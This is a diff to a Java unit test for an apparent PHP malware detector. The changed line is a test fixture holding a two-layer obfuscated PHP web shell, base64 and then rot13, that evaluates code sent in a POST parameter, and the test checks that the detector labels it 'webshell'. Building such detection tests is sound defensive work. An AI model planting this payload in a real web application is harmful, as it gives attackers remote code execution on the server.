@@ -52,7 +52,8 @@ class PhpJudgeTest {
   void codeUnderTwoLayersIsReadThroughThem() {
     assertThat(
             PhpJudge.file(
-                "<?php eval(base64_decode('ZXZhbChzdHJfcm90MTMoInJpbnkoJF9DQkZHWyd6J10pOyIpKTs='));"))
+                "<?php"
+                    + " eval(base64_decode('ZXZhbChzdHJfcm90MTMoJ3JpbnkoJF9DQkZHWyJ6Il0pOycpKTs='));"))
         .extracting(Charge::kind)
         .containsOnly("webshell");
   }
